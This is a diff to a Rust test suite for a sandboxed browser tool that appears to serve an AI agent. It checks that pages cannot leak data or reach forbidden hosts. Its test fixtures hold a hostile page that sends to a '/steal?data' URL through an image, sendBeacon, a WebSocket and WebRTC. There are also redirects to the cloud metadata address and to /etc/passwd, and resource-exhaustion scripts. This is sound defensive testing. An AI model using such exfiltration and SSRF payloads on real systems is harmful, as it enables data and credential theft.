@@ -11,7 +11,7 @@ use common_ground::{
 };
 use serde_json::json;
 use tools::{Browse, BrowserSettings, Chromium};
-use web::{Reply, Room, Server, all_of, dialler, grant, held, key};
+use web::{Nameserver, Reply, Room, Server, address, all_of, dialler, grant, held, key};
 
 /// A room with a browser, or the word that there is none here.
 async fn room(folder: &Path) -> Option<Room<Browse>> {
@@ -78,7 +78,9 @@ fn stopped(folder: &Path) -> bool {
     let all = std::fs::read_dir("/proc").expect("processes").flatten();
     let ours = all.filter(|process| {
         let line = std::fs::read(process.path().join("cmdline")).unwrap_or_default();
-        String::from_utf8_lossy(&line).contains(&marker)
+        let line = String::from_utf8_lossy(&line).into_owned();
+        // What waits for crashes has a session of its own and does nothing else.
+        line.contains(&marker) && !line.contains("crashpad_handler\0")
     });
     let mut states = ours.filter_map(|process| std::fs::read_to_string(process.path().join("stat")).ok()).peekable();
     states.peek().is_some() && states.all(|stat| stat.rsplit_once(')').is_some_and(|(_, rest)| rest.starts_with(" T")))
@@ -108,7 +110,9 @@ async fn a_page_is_read_and_used() {
     let grant = roomy(&[&server.item()]);
     let called = room.call(&grant, &json!({"action": "open", "url": server.url("/")})).await;
     let page = text(&called).to_owned();
-    for part in ["page: Form\n", "heading \"Order\" level=1", "textbox \"Name\"", "button \"Send\"", "text \"nothing yet\""] {
+    for part in
+        ["page: Form\n", "heading \"Order\" level=1", "textbox \"Name\"", "button \"Send\"", "text \"nothing yet\""]
+    {
         assert!(page.contains(part), "{part}\n{page}");
     }
     println!("{page}");
@@ -126,9 +130,11 @@ async fn a_page_is_read_and_used() {
     assert!(text(&called).contains("it was pressed"), "{}", text(&called));
     let called = room.call(&grant, &json!({"action": "type", "ref": number(&page, "textbox"), "text": "Ann"})).await;
     assert!(text(&called).contains("value=\"Ann\"") && text(&called).contains("what changed"), "{}", text(&called));
-    let called = room.call(&grant, &json!({"action": "select", "ref": number(&page, "combobox"), "option": "Large"})).await;
+    let called =
+        room.call(&grant, &json!({"action": "select", "ref": number(&page, "combobox"), "option": "Large"})).await;
     assert!(text(&called).contains("Large"), "{}", text(&called));
-    let called = room.call(&grant, &json!({"action": "select", "ref": number(&page, "combobox"), "option": "Huge"})).await;
+    let called =
+        room.call(&grant, &json!({"action": "select", "ref": number(&page, "combobox"), "option": "Huge"})).await;
     assert!(error(&called).contains("it has: Small, Large"), "{}", error(&called));
     let called = room.call(&grant, &json!({"action": "scroll", "direction": "down"})).await;
     assert!(text(&called).contains("in view: 600"), "{}", text(&called));
@@ -148,8 +154,7 @@ async fn a_page_is_read_and_used() {
     assert!(text(&called).contains("heading \"Order\""), "{}", text(&called));
 
     // Between calls nothing moves.
-    let moves = room.call(&grant, &json!({"action": "snapshot"})).await;
-    assert!(moves.answer.is_ok() && stopped(folder.path()), "every process stands still");
+    becomes("every process stands still", || stopped(folder.path())).await;
 
     // Another attempt has another browser, and begins with nothing.
     let mut other = key(1);
@@ -166,6 +171,8 @@ async fn what_a_page_may_not() {
     let folder = tempfile::tempdir().expect("a folder");
     let Some(room) = room(folder.path()).await else { return };
     let other = Server::new(|_| Reply::html("other")).await;
+    let stun = tokio::net::UdpSocket::bind("127.0.0.1:0").await.expect("a port");
+    let stun_at = stun.local_addr().expect("an address");
     let elsewhere = other.url("/steal?data");
     let page = format!(
         "<title>Bad</title><img src='{elsewhere}'><script>
@@ -174,7 +181,7 @@ async fn what_a_page_may_not() {
         navigator.sendBeacon('{elsewhere}');
         new WebSocket('ws://{0}/');
         try {{
-            const peer = new RTCPeerConnection({{iceServers: [{{urls: 'stun:{0}'}}]}});
+            const peer = new RTCPeerConnection({{iceServers: [{{urls: 'stun:{stun_at}'}}]}});
             peer.createDataChannel('x');
             peer.createOffer().then(offer => peer.setLocalDescription(offer));
         }} catch (error) {{}}
@@ -184,9 +191,8 @@ async fn what_a_page_may_not() {
     );
     let server = Server::new(move |asked| match asked.path.as_str() {
         "/" => Reply::html(&page),
-        "/file.bin" => {
-            Reply::of("application/octet-stream", b"binary".to_vec()).with("content-disposition", "attachment; filename=a.bin")
-        }
+        "/file.bin" => Reply::of("application/octet-stream", b"binary".to_vec())
+            .with("content-disposition", "attachment; filename=a.bin"),
         "/to-metadata" => Reply::to(302, "http://169.254.169.254/latest/meta-data/"),
         "/to-file" => Reply::to(302, "file:///etc/passwd"),
         _other => Reply::missing(),
@@ -214,11 +220,57 @@ async fn what_a_page_may_not() {
     let called = room.call(&grant, &json!({"action": "open", "url": other.url("/")})).await;
     assert_eq!(called.record.exit, Exit::Refused);
     assert!(other.asked().is_empty(), "{:?}", other.asked());
+    let mut datagram = [0; 100];
+    let past = stun.try_recv_from(&mut datagram);
+    assert!(past.is_err(), "WebRTC sent something past the proxy: {past:?}");
     let needs = room.tool.needs(&json!({"action": "open", "url": "http://0x7f.1:81/"}).to_string()).expect("needs");
     assert_eq!(needs[0].to_string(), "net:http://127.0.0.1:81");
     held(14, "browser", "0x7f.1 is asked for as 127.0.0.1, by the same rules as Chromium's");
     drop(room);
     becomes("nothing is left", || processes_of(folder.path()) == 0 && is_empty(folder.path())).await;
+}
+
+#[tokio::test]
+async fn case_15_18_names_in_a_browser() {
+    let folder = tempfile::tempdir().expect("a folder");
+    if room(folder.path()).await.is_none() {
+        return;
+    }
+    let names = Nameserver::new(|name, before| match (name, before) {
+        ("mixed.test", _) => vec![address("169.254.169.254"), address("127.0.0.1")],
+        ("turns.wide.test", _) => vec![address("127.0.0.1")],
+        _other => vec![],
+    })
+    .await;
+    let long = format!("{0}.{0}.{0}.wide.test", "a".repeat(50));
+    let server = Server::new(move |asked| match asked.path.as_str() {
+        "/" => Reply::html(&format!(
+            "<h1>mixed</h1><img src='http://turns.wide.test:{0}/'><img src='http://{long}:{0}/'><img src='http://no.grant.test/'>
+            <link rel=dns-prefetch href='//prefetched.elsewhere.test'>",
+            asked.headers["host"].rsplit_once(':').map(|(_, port)| port).unwrap_or_default()
+        )),
+        _other => Reply::missing(),
+    })
+    .await;
+    let port = server.port();
+    let settings = BrowserSettings { chromium: Chromium::Found, folder: folder.path().to_owned() };
+    let room = Room::new(Browse::new(Arc::new(names.dialler()), settings), &[]);
+    let grant = roomy(&[&format!("net:http://mixed.test:{port}"), &format!("net:http://*.wide.test:{port}")]);
+    let called = room.call(&grant, &json!({"action": "open", "url": format!("http://mixed.test:{port}/")})).await;
+    assert!(text(&called).contains("heading \"mixed\""), "{}", text(&called));
+    assert!(!called.record.egress.is_empty() && called.record.egress.iter().all(|one| one.address == "127.0.0.1"));
+    let refused: String =
+        called.record.refusals.iter().map(|denial| format!("{}: {}\n", denial.what, denial.why)).collect();
+    for part in
+        ["169.254.169.254: the address of a metadata service", "a loopback address", "a host name of", "no.grant.test"]
+    {
+        assert!(refused.contains(part), "{part}: {refused}");
+    }
+    assert_eq!(server.pages(), ["/"]);
+    held(15, "browser", "the page came from 127.0.0.1 that was checked; metadata and a pattern's loopback refused");
+    let asked = names.asked();
+    assert!(asked.iter().all(|name| name == "mixed.test" || name == "turns.wide.test"), "{asked:?}");
+    held(18, "browser", "long and ungranted names, and a prefetched one, were never asked for");
 }
 
 #[tokio::test]
@@ -250,7 +302,9 @@ async fn limits_and_ends_leave_nothing() {
     let Some(room) = room(folder.path()).await else { return };
     let server = Server::new(|asked| match asked.path.as_str() {
         "/busy" => Reply::html("<script>const end = Date.now() + 60000; while (Date.now() < end) {}</script>"),
-        "/large" => Reply::html("<script>const all = []; setInterval(() => all.push(new Array(4e6).fill(Math.random())), 20)</script>"),
+        "/large" => Reply::html(
+            "<script>const all = []; setInterval(() => all.push(new Array(4e6).fill(Math.random())), 20)</script>",
+        ),
         "/flood" => Reply::of("text/html", vec![b'a'; 3 << 20]),
         _page => Reply::html("<h1>still</h1>"),
     })
